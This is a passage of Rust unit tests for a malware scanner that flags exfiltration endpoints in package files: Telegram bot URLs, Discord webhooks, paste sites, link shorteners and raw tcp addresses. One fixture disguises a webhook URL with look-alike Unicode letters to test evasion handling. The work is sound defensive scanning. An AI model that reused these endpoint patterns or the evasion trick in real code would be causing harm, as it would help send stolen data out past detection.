        let named = "U = 'https://api.telegram.org/botTOKEN/sendMessage'\n";
        assert!(max_severity("p/pkg/__init__.py", named, "WH160") >= 0.6);
    }

    #[test]
    fn endpoint_needles_are_found_in_table_order_whatever_the_case() {
        // Both needles are in the text: the earlier table entry wins, as a scan of the table does.
        let text = "see HTTPS://Discord.com/API/webhooks/1/x and bit.ly/abc";
        assert_eq!(
            classify(text).map(|(l, _)| l).as_deref(),
            Some("Discord webhook")
        );
        let text = "bit.ly/abc then https://pastebin.com/raw/x";
        assert_eq!(
            classify(text).map(|(l, _)| l).as_deref(),
            Some("paste site")
        );
        for (needle, label, _) in ENDPOINTS {
            let upper = format!("x/{}/y", needle.to_ascii_uppercase());
            let lower = upper.to_ascii_lowercase();
            let expected = ENDPOINTS
                .iter()
                .find(|(n, _, _)| lower.contains(n))
                .map(|(_, l, _)| *l);
            assert_eq!(endpoint_in(&upper).map(|(_, l, _)| *l), expected, "{label}");
        }
        assert!(!may_name_endpoint("an ordinary docstring-free literal"));
        assert!(may_name_endpoint("tcp://10.0.0.1"));
        // LONG S and KELVIN SIGN fold to `s` and `k` in the credential pattern.
        let disguised = "diſcord.com/api/webhooKſ/12345678901/abcdefghijklmnopqrstuvwxyz";
        assert!(EMBEDDED_CREDENTIAL.is_match(disguised));
        assert!(classify_strength(disguised).is_some_and(|(_, _, strong)| strong));
    }

    #[test]
    fn private_and_documentation_addresses_are_ignored() {
        assert!(classify("http://127.0.0.1:8000/").is_none());
        assert!(classify("http://192.168.1.10/").is_none());
        assert!(classify("http://203.0.113.7/x").is_none());
        assert!(classify("https://pypi.org/simple").is_none());
    }
}
